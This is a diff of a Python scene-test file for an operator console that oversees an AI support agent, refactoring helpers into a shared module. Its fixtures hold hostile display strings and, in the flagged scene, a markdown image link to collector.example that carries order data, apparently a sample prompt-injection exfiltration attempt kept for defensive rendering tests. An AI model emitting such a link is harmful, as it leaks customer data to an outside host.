@@ -7,7 +7,7 @@ looks bad.
 import argparse
 import os
 import sys
-from collections.abc import Callable, Iterable
+from collections.abc import Iterable
 from datetime import timedelta
 from pathlib import Path
 
@@ -20,7 +20,6 @@ from agent_core.contract.ids import OperatorId
 from agent_core.contract.money import Money
 from agent_core.contract.views import (
     ApprovalGiven,
-    AskCard,
     Counts,
     FileShown,
     LabelledText,
@@ -42,7 +41,6 @@ from console.state.happenings import (
     DetailArrived,
     EditShown,
     FeedArrived,
-    Happening,
     KeyringKnown,
     News,
     PacketArrived,
@@ -60,8 +58,8 @@ from console.widgets.gallery.__main__ import picture
 from console.widgets.transcript.view import TranscriptView
 from tests.console import made
 from tests.console.fake_core import AskedFor
+from tests.console.scene import Scene, asks, say
 
-Scene = Callable[[MainWindow, Store], None]
 _SIZES = ((1366, 768, 1.0), (1600, 1000, 1.0), (1600, 1000, 2.0))
 _NOBODY = made.session(operator=None, role=None, name=None, key=None, limit=None)
 _MINE = ApprovalGiven(operator=made.ME, name="Mira Duarte", at=made.NOW)
@@ -71,18 +69,9 @@ _ZALGO = "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 
 _HOSTILE = f"<h1>Pay</h1><img src=x> \u202eREFUND\u202c \x1b[31m {_ZALGO} 👩‍👩‍👧‍👦🏳️‍🌈 荷物がまだ届いて שלום مرحبا {_WORD}"
 
 
-def _say(store: Store, *happenings: Happening) -> None:
-    for one in happenings:
-        store.dispatch(one)
-
-
-def _asks(*cards: AskCard) -> FeedArrived:
-    return FeedArrived(made.answer(reset=False, asks=cards), made.NOW)
-
-
 def _card(**changes: object) -> Scene:
     def scene(_window: MainWindow, store: Store) -> None:
-        _say(store, _asks(made.ask(1, version=2, **changes)))
+        say(store, asks(made.ask(1, version=2, **changes)))
 
     return scene
 
@@ -92,55 +81,55 @@ def _full(_window: MainWindow, _store: Store) -> None:
 
 
 def _all(_window: MainWindow, store: Store) -> None:
-    _say(store, BucketChosen("all"))
+    say(store, BucketChosen("all"))
 
 
 def _empty(_window: MainWindow, store: Store) -> None:
-    _say(store, ConversationChosen(None), FeedArrived(made.answer(rows=(), asks=(), counts=Counts()), made.NOW))
+    say(store, ConversationChosen(None), FeedArrived(made.answer(rows=(), asks=(), counts=Counts()), made.NOW))
 
 
 def _approvals_empty(window: MainWindow, store: Store) -> None:
     _empty(window, store)
-    _say(store, WorkspaceChosen("approvals"))
+    say(store, WorkspaceChosen("approvals"))
 
 
 def _offline(_window: MainWindow, store: Store) -> None:
-    _say(store, ConnectionChanged("offline", made.NOW - timedelta(seconds=70), "The core does not answer."))
-    _say(
+    say(store, ConnectionChanged("offline", made.NOW - timedelta(seconds=70), "The core does not answer."))
+    say(
         store,
         News("offline", "The core does not answer", "This is how it was at 14:02.", "danger"),
     )
 
 
 def _catching_up(_window: MainWindow, store: Store) -> None:
-    _say(store, ConnectionChanged("catching_up", made.NOW))
+    say(store, ConnectionChanged("catching_up", made.NOW))
 
 
 def _read_only(_window: MainWindow, store: Store) -> None:
     told = "No OS keyring holds your key on this computer. Install and start gnome-keyring, then start the console again."
-    _say(store, SignedIn(_NOBODY), KeyringKnown(Keyring(usable=False, kind="none", sentence=told)))
+    say(store, SignedIn(_NOBODY), KeyringKnown(Keyring(usable=False, kind="none", sentence=told)))
 
 
 def _read_only_settings(window: MainWindow, store: Store) -> None:
     _read_only(window, store)
-    _say(store, WorkspaceChosen("settings"))
+    say(store, WorkspaceChosen("settings"))
 
 
 def _settings(_window: MainWindow, store: Store) -> None:
-    _say(store, WorkspaceChosen("settings"))
+    say(store, WorkspaceChosen("settings"))
 
 
 def _armed(_window: MainWindow, store: Store) -> None:
     much = made.ask(1, version=2, money=made.euros(30_000), title="Refund 300.00 EUR")
-    _say(store, _asks(much), AskArmed(much.ask))
+    say(store, asks(much), AskArmed(much.ask))
 
 
 def _sending(_window: MainWindow, store: Store) -> None:
-    _say(store, CommandSent(str(made.ask(1).ask), "approve", 1))
+    say(store, CommandSent(str(made.ask(1).ask), "approve", 1))
 
 
 def _approvals(_window: MainWindow, store: Store) -> None:
-    _say(store, WorkspaceChosen("approvals"))
+    say(store, WorkspaceChosen("approvals"))
 
 
 def _difference(_window: MainWindow, store: Store) -> None:
@@ -148,12 +137,12 @@ def _difference(_window: MainWindow, store: Store) -> None:
         LabelledText(label="Amount", value="64.90 EUR → 32.40 EUR"),
         LabelledText(label="Order status", value="shipped → delivered"),
     )
-    _say(store, _asks(made.ask(1, version=2, changes=changed)), AskChosen(made.ask(1).ask), WorkspaceChosen("approvals"))
+    say(store, asks(made.ask(1, version=2, changes=changed)), AskChosen(made.ask(1).ask), WorkspaceChosen("approvals"))
 
 
 def _two_people(_window: MainWindow, store: Store) -> None:
     waiting = made.ask(1, version=2, required_people=2, approvals=(_INES,), second_person_wanted=True)
-    _say(store, _asks(waiting), AskChosen(waiting.ask), WorkspaceChosen("approvals"))
+    say(store, asks(waiting), AskChosen(waiting.ask), WorkspaceChosen("approvals"))
 
 
 def _deny(window: MainWindow, _store: Store) -> None:
@@ -177,9 +166,9 @@ def _keys(window: MainWindow, _store: Store) -> None:
 
 
 def _toasts(_window: MainWindow, store: Store) -> None:
-    _say(store, News("1", "Refund 64.90 EUR — closed", "Countersigned by Ines Roth", "ok", made.conversation(1)))
-    _say(store, News("2", "Somebody was faster", "This ask was decided by Ines Roth.", "warn"))
-    _say(store, News("3", _HOSTILE[:300], _HOSTILE, "danger", made.conversation(2)))
+    say(store, News("1", "Refund 64.90 EUR — closed", "Countersigned by Ines Roth", "ok", made.conversation(1)))
+    say(store, News("2", "Somebody was faster", "This ask was decided by Ines Roth.", "warn"))
+    say(store, News("3", _HOSTILE[:300], _HOSTILE, "danger", made.conversation(2)))
 
 
 def _hostile(_window: MainWindow, store: Store) -> None:
@@ -235,7 +224,7 @@ def _hostile(_window: MainWindow, store: Store) -> None:
         MarkItem(id="k1", seq=10, version=1, at=made.NOW, what="guardrail", tone="danger", text=_HOSTILE, detail=_HOSTILE),
         MarkItem(id="k2", seq=11, version=1, at=made.NOW, what="failure", tone="danger", text=_HOSTILE),
     )
-    _say(
+    say(
         store,
         FeedArrived(made.answer(reset=False, rows=(row,), asks=(bad,)), made.NOW),
         DetailArrived(made.detail(1, row=row, seq=90, items=items)),
@@ -258,7 +247,7 @@ def _flagged(_window: MainWindow, store: Store) -> None:
                  detail="“![status](https://collector.example/p.png?d=order-data)”"),
     )  # fmt: skip
     items = (first.model_copy(update={"text": attack}), *marks, *rest[:2])
-    _say(store, DetailArrived(made.detail(1, seq=25, items=items)))
+    say(store, DetailArrived(made.detail(1, seq=25, items=items)))
 
 
 def _mail(window: MainWindow, store: Store) -> None:
@@ -287,7 +276,7 @@ def _mail(window: MainWindow, store: Store) -> None:
         update={"id": "m_robot", "seq": rest[0].seq, "subject": "Re: Order NW-10023", "text": "I am out of the office.",
                 "files": (), "quoted": "", "hidden": (), "flags": ("auto_reply",), "automatic": True},
     )  # fmt: skip
-    _say(store, DetailArrived(made.detail(1, seq=25, items=(mail, robot))))
+    say(store, DetailArrived(made.detail(1, seq=25, items=(mail, robot))))
     window.refresh.flush()
     for view in window.findChildren(TranscriptView):
         number = next((n for n, block in enumerate(view.blocks) if block.key.endswith(":hidden")), None)
@@ -306,7 +295,7 @@ def _person(_window: MainWindow, store: Store) -> None:
         owner_name="Mira Duarte",
         intents=("refund_order",),
     )
-    _say(
+    say(
         store,
         BucketChosen("human"),
         FeedArrived(made.answer(reset=False, rows=(row,)), made.NOW),
@@ -326,7 +315,7 @@ def _handoff(_window: MainWindow, store: Store) -> None:
         asks=("escalation",),
         intents=("refund_order",),
     )
-    _say(
+    say(
         store,
         ConversationChosen(row.conversation),
         FeedArrived(made.answer(reset=False, rows=(row,)), made.NOW),
@@ -336,15 +325,15 @@ def _handoff(_window: MainWindow, store: Store) -> None:
 
 
 def _edit(window: MainWindow, store: Store) -> None:
-    _say(store, ConversationChosen(made.conversation(1)), DetailArrived(made.detail(1)))
+    say(store, ConversationChosen(made.conversation(1)), DetailArrived(made.detail(1)))
     window.refresh.flush()
     window.edit(made.ask(1).ask)
-    _say(store, EditShown(made.edit(1)))
+    say(store, EditShown(made.edit(1)))
     window.refresh.flush()
     amount = window.form.findChildren(QLineEdit)[0]
     amount.setText("50.00")
     window.form.pause_over()
-    _say(store, EditShown(made.edited(1)))
+    say(store, EditShown(made.edited(1)))
 
 
 def _assess(window: MainWindow, store: Store) -> None:
@@ -354,18 +343,18 @@ def _assess(window: MainWindow, store: Store) -> None:
 
 
 def _route(window: MainWindow, store: Store) -> None:
-    _say(store, ConversationChosen(made.conversation(1)), DetailArrived(made.detail(1)))
+    say(store, ConversationChosen(made.conversation(1)), DetailArrived(made.detail(1)))
     window.refresh.flush()
     window.forms.route()
-    _say(store, RoutingShown(made.preview(1)))
+    say(store, RoutingShown(made.preview(1)))
 
 
 def _repair(window: MainWindow, store: Store) -> None:
     row = made.ROWS[3].model_copy(update={"version": 5})
-    _say(store, ConversationChosen(row.conversation), DetailArrived(made.detail(4, row=row, seq=26, asks=(made.ASKS[3],))))
+    say(store, ConversationChosen(row.conversation), DetailArrived(made.detail(4, row=row, seq=26, asks=(made.ASKS[3],))))
     window.refresh.flush()
     window.forms.repair()
-    _say(store, RepairArrived(made.repair(4)))
+    say(store, RepairArrived(made.repair(4)))
 
 
 def _doubted(window: MainWindow, store: Store) -> None:
@@ -378,7 +367,7 @@ def _doubted(window: MainWindow, store: Store) -> None:
         ReplyWarning(check="specifics", code="percentage", sentence="“20 %” is in none of the facts of this conversation.",
                      places=((text.index("20 %"), text.index("20 %") + 4),)),
     )  # fmt: skip
-    _say(
+    say(
         store,
         PacketArrived(made.packet(1)),
         ReplyDoubted(Doubted(made.conversation(1), text, text, warnings)),
@@ -386,7 +375,7 @@ def _doubted(window: MainWindow, store: Store) -> None:
 
 
 def _paused(_window: MainWindow, store: Store) -> None:
-    _say(store, FeedArrived(made.answer(reset=False, core=made.core(paused=True)), made.NOW))
+    say(store, FeedArrived(made.answer(reset=False, core=made.core(paused=True)), made.NOW))
 
 
 def _long(window: MainWindow, store: Store) -> None:
@@ -409,13 +398,13 @@ def _long(window: MainWindow, store: Store) -> None:
         for number in range(21, 321, 3)
     )
     counts = Counts(needs_person=134, agent=31_102, human=1_061, all=128_400, approvals=100)
-    _say(store, FeedArrived(made.answer(rows=rows, asks=asks, counts=counts), made.NOW), BucketChosen("all"))
+    say(store, FeedArrived(made.answer(rows=rows, asks=asks, counts=counts), made.NOW), BucketChosen("all"))
     window.refresh.flush()
-    _say(store, WorkspaceChosen("approvals"))
+    say(store, WorkspaceChosen("approvals"))
 
 
 def _first_connection(_window: MainWindow, store: Store) -> None:
-    _say(
+    say(
         store,
         ConversationChosen(None),
         SignedIn(None),
@@ -503,7 +492,7 @@ SCENES: dict[str, Scene] = {
 def begun(chosen: ThemeName) -> Store:
     """A day's conversations, one of them open."""
     store = Store(AppState(now=made.NOW, preferences=Preferences(theme=chosen)))
-    _say(
+    say(
         store,
         KeyringKnown(Keyring(usable=True, kind="memory", sentence="In memory.", fingerprint=made.KEY)),
         SignedIn(made.session()),
